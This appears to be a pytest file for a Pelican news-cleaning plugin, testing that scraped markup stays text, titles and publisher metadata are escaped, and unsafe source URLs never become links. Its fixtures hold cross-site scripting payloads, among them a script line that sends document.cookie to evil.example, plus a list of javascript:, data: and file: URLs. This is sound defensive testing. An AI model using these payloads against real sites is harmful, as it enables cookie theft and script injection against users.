"""Hostile input: markup in scraped text stays text, metadata is escaped, no unsafe link is made.

(test_plugin.py already covers a <script> in a .txt body and Source_URL: javascript: in Markdown.)
"""

from __future__ import annotations

import html
from pathlib import Path

from bs4 import BeautifulSoup, Comment
from conftest import article_body, build, footers, soup_of
import pytest

PARAGRAPH = (
    "The council approved the new budget on Tuesday after a long debate about the cost "
    "of the new bridge and the state of the roads in the north of the city."
)

HOSTILE_LINES = [
    '<img src=x onerror="alert(1)"> was posted under the article by a reader.',
    "A reader closed the paragraph </p><p onclick=alert(2)>here, then went on typing.",
    "Someone left a comment <!-- hidden --> in the middle of the sentence, and more text.",
    "<script>document.location='https://evil.example/?c='+document.cookie</script> then text.",
    "An <iframe src=//evil.example></iframe> and a <a href=javascript:alert(3)>link</a> too.",
    "Entities stay as typed: &lt;b&gt; and &amp; and &#60;script&#62; in the scraped text.",
]

BAD_URLS = {
    "plain": "javascript:alert(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "leading-space": "   javascript:alert(1)",
    "control-char": "\x01javascript:alert(1)",
    "tab-inside": "java\tscript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "protocol-relative": "//evil.example/story",
    "no-host": "https:evil.example/story",
    "backslashes": "https:\\\\evil.example",
    "file": "file:///etc/passwd",
}

PUBLISHER = 'Evil "Co" <script>alert(1)</script> & Sons'
TITLE = 'Bridge <b>"reopens"</b> & <script>alert(1)</script>'


def txt(title: str, body: str, **header: str) -> str:
    lines = [f"Title: {title}", "Date: 2024-05-01"] + [f"{k}: {v}" for k, v in header.items()]
    return "\n".join(lines) + "\n\n" + body + "\n"


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    content.mkdir()
    files = {
        "markup.txt": txt("Markup in text", "\n".join(x for line in HOSTILE_LINES for x in (PARAGRAPH, line))),
        "markup-off.txt": txt("Markup uncleaned", "\n".join([PARAGRAPH, *HOSTILE_LINES]), Newsclean="off"),
        "names.txt": txt(
            TITLE, PARAGRAPH, Source=PUBLISHER, Wire='AP" onmouseover="x', Source_URL="https://gazette.example/a"
        ),
        "quote-url.txt": txt(
            "Quote in url",
            PARAGRAPH,
            Source="Gazette",
            Source_URL='https://gazette.example/a"onmouseover="alert(1)',
        ),
        "names.md": f"Title: Markdown names\nDate: 2024-05-01\nSource: {PUBLISHER}\n\n{PARAGRAPH}\n",
    }
    for key, url in BAD_URLS.items():
        files[f"url-{key}.txt"] = txt(f"Url {key}", PARAGRAPH, Source="Gazette", Source_URL=url)
        files[f"url-{key}.md"] = (
            f"Title: Md url {key}\nDate: 2024-05-01\nSource: Gazette\nSource_URL: {url}\n\n{PARAGRAPH}\n"
        )
    for name, text in files.items():
        (content / name).write_text(text, encoding="utf-8")
    return build(
        None,
        root / "output",
        PLUGINS=["pelican_newsclean"],
        PATH=str(content),
        TIMEZONE="UTC",
        SITEURL="",
        FEED_ALL_ATOM=None,
        CATEGORY_FEED_ATOM=None,
        AUTHOR_FEED_ATOM=None,
        AUTHOR_FEED_RSS=None,
        TRANSLATION_FEED_ATOM=None,
        NEWSCLEAN={"min_words": 0},
    )


def page(output: Path, slug_start: str) -> Path:
    (found,) = [p for p in output.glob("*.html") if p.name.startswith(slug_start)]
    return found


@pytest.mark.parametrize("slug", ["markup-in-text", "markup-uncleaned"])
def test_markup_in_txt_is_text(site, slug):
    body = article_body(page(site, slug))
    for tag in ("img", "script", "iframe", "a"):
        assert body.find(tag) is None, tag
    assert not body.find_all(attrs={"onclick": True}) and not body.find_all(attrs={"onerror": True})
    assert not body.find_all(string=lambda s: isinstance(s, Comment) and "hidden" in s)
    texts = [" ".join(p.get_text().split()) for p in body.find_all("p") if not p.find_parent("footer")]
    for line in HOSTILE_LINES:
        if slug == "markup-in-text" and line.startswith("Entities"):
            # the encoding repair decodes entities leaked into scraped text (&amp; -> &):
            # what they stand for is then shown as text, never as markup
            line = html.unescape(line)
        assert " ".join(line.split()) in texts, line  # shown as typed


def test_markup_in_txt_stays_text_in_the_summary(site):
    listing = (site / "index.html").read_text(encoding="utf-8")
    assert "<img src=x" not in listing and "<script>document" not in listing
    assert "<!-- hidden -->" not in listing


def test_title_and_publisher_are_escaped(site):
    path = page(site, "bridge-")
    html = path.read_text(encoding="utf-8")
    # the heading shows the title as text, quotes included
    assert ">Bridge &lt;b&gt;&quot;reopens&quot;&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</a></h1>" in html
    assert soup_of(path).find("h1", class_="entry-title").get_text().strip() == TITLE
    body = article_body(path)
    assert body.find("script") is None
    (footer,) = footers(body)
    assert PUBLISHER in footer.get_text()
    assert 'AP" onmouseover="x' in footer.get_text()
    assert not footer.find_all(attrs={"onmouseover": True})
    assert footer.find("a")["href"] == "https://gazette.example/a"


def test_no_markup_from_a_title_anywhere_in_the_page(site):
    """Not even through the theme's title="Permalink to {{ article.title|striptags }}"."""
    soup = soup_of(page(site, "bridge-"))
    assert soup.find("script") is None
    assert all(len(tag.attrs) <= 3 for tag in soup.find_all(True)), "an attribute broke out"


def test_publisher_of_markdown_article_is_escaped_in_the_footer(site):
    (footer,) = footers(article_body(page(site, "markdown-names")))
    assert footer.find("script") is None and PUBLISHER in footer.get_text()


def test_quote_in_source_url_does_not_break_out_of_the_attribute(site):
    (footer,) = footers(article_body(page(site, "quote-in-url")))
    assert not footer.find_all(attrs={"onmouseover": True})
    link = footer.find("a")
    assert link is None or link["href"] == 'https://gazette.example/a"onmouseover="alert(1)'


@pytest.mark.parametrize("key", sorted(BAD_URLS))
@pytest.mark.parametrize("kind", ["url", "md-url"])
def test_unsafe_source_url_never_becomes_a_link(site, key, kind):
    path = page(site, f"{kind}-{key}")
    (footer,) = footers(article_body(path))
    credit = footer.find("p", class_="newsclean-source")  # (other copies of the story are linked below it)
    assert credit.find("a") is None
    assert "Gazette" in credit.get_text()
    for link in BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser").find_all(href=True):
        href = "".join(link["href"].split()).lower()
        assert not href.startswith(("javascript:", "data:", "vbscript:", "//evil", "file:")), href
